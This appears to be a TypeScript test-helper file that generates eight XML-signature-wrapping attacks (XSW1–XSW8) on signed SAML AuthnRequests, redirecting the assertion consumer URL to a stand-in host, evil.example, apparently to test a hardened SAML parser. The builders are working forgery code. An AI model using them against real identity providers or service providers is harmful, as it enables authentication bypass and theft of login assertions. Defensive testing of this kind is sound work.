import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { authnRequestXml, signMessage } from './saml-messages.js';
import type { TestSigner } from './test-signer.js';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
export const EVIL_ID = '_e0e1e2e3e4e5e6e7e8e9eaebecedeeef';
export const EVIL_ACS = 'https://evil.example/acs';

/** The pieces every wrapping attack is built from, taken from a request the SP really signed. */
interface Pieces {
  document: Document;
  /** The signed request: root, with the SP's ds:Signature as a child. */
  original: Element;
  /** The SP's ds:Signature (still inside `original`). */
  signature: Element;
  /** A copy of the original without its signature: the element the signature's digest covers. */
  unsignedCopy: Element;
  /** The attacker's request: the original, unsigned, with a new ID and the attacker's ACS URL. */
  evil: Element;
}

/** One XML-signature-wrapping shape: a name after "On Breaking SAML" (Somorovsky et al., 2012) and a builder. */
export interface WrappingShape {
  name: string;
  description: string;
  build(signedXml: string, attacker: TestSigner): string;
}

/**
 * XSW1–XSW8 adapted to a signed AuthnRequest (the paper's shapes wrap Response/Assertion): in each the SP's
 * signature still verifies over an element it really signed, while the root element a reader processes carries
 * the attacker's ACS URL.
 */
export const WRAPPING_SHAPES: readonly WrappingShape[] = [
  {
    name: 'XSW1',
    description: 'evil root with the SP signature; the signed original moved inside the ds:Signature',
    build: (signedXml) => {
      const { document, signature, unsignedCopy, evil } = pieces(signedXml);
      insertAfterIssuer(evil, signature);
      signature.appendChild(unsignedCopy);
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW2',
    description: 'evil root; the signed original placed as a detached sibling before the ds:Signature',
    build: (signedXml) => {
      const { document, signature, unsignedCopy, evil } = pieces(signedXml);
      insertAfterIssuer(evil, signature);
      evil.insertBefore(unsignedCopy, signature);
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW3',
    description: 'evil root re-using the original ID, the signed original (with its signature) inside it',
    build: (signedXml) => {
      const { document, original, evil } = pieces(signedXml);
      evil.setAttribute('ID', original.getAttribute('ID') ?? '');
      insertAfterIssuer(evil, extensions(document, original));
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW4',
    description: 'evil root with a new ID wrapping the whole signed original in samlp:Extensions',
    build: (signedXml) => {
      const { document, original, evil } = pieces(signedXml);
      insertAfterIssuer(evil, extensions(document, original));
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW5',
    description: 'evil root keeps the SP signature; the signed original appended as its last child',
    build: (signedXml) => {
      const { document, signature, unsignedCopy, evil } = pieces(signedXml);
      insertAfterIssuer(evil, signature);
      evil.appendChild(unsignedCopy);
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW6',
    description: 'evil root with the SP signature; the signed original inside a ds:Object of that signature',
    build: (signedXml) => {
      const { document, signature, unsignedCopy, evil } = pieces(signedXml);
      insertAfterIssuer(evil, signature);
      const object = document.createElementNS(DSIG, 'ds:Object');
      object.appendChild(unsignedCopy);
      signature.appendChild(object);
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW7',
    description: 'evil root with the SP signature; the signed original inside samlp:Extensions (a non-root reference)',
    build: (signedXml) => {
      const { document, signature, unsignedCopy, evil } = pieces(signedXml);
      insertAfterIssuer(evil, extensions(document, unsignedCopy));
      insertAfterIssuer(evil, signature);
      return serialize(document, evil);
    },
  },
  {
    name: 'XSW8',
    description: 'evil root signed by the attacker, the SP-signed original riding along in Extensions (two signatures)',
    build: (signedXml, attacker) => {
      const { document, original, evil } = pieces(signedXml);
      insertAfterIssuer(evil, extensions(document, original));
      return signMessage(serialize(document, evil), attacker);
    },
  },
];

/** Parses with a plain xmldom parser (the attacker's tooling, not the hardened one). */
export function parseLoosely(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

/** The first child element of `parent` with this local name. */
export function childNamed(parent: Element, localName: string): Element {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1 && node.localName === localName) return node as Element;
  }
  throw new Error(`no ${localName} in ${parent.nodeName}`);
}

/** The unsigned evil request, for tests that build their own variations. */
export function evilRequestXml(): string {
  return authnRequestXml({ id: EVIL_ID, acsUrl: EVIL_ACS });
}

function pieces(signedXml: string): Pieces {
  const document = parseLoosely(signedXml);
  const original = document.documentElement;
  if (!original) throw new Error('no root');
  const signature = childNamed(original, 'Signature');
  const unsignedCopy = original.cloneNode(true) as Element;
  unsignedCopy.removeChild(childNamed(unsignedCopy, 'Signature'));
  const evil = unsignedCopy.cloneNode(true) as Element;
  evil.setAttribute('ID', EVIL_ID);
  evil.setAttribute('AssertionConsumerServiceURL', EVIL_ACS);
  return { document, original, signature, unsignedCopy, evil };
}

function extensions(document: Document, content: Element): Element {
  const element = document.createElementNS(PROTOCOL, 'samlp:Extensions');
  element.appendChild(content);
  return element;
}

function insertAfterIssuer(root: Element, node: Element): void {
  root.insertBefore(node, childNamed(root, 'Issuer').nextSibling);
}

/** Makes `root` the document element and serializes the document. */
function serialize(document: Document, root: Element): string {
  if (document.documentElement) document.removeChild(document.documentElement);
  document.appendChild(root);
  return new XMLSerializer().serializeToString(document);
}
